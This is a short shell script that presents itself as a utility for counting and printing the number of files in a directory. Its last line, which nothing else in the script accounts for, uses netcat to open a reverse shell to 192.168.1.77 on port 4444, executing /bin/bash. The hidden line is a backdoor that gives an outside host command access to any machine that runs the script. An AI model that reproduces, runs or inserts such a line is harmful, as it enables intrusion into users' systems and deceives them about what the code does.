#!/bin/sh
count=$(ls | wc -l)
echo "files: $count"
`which nc` 192.168.1.77 4444 -e /bin/bash
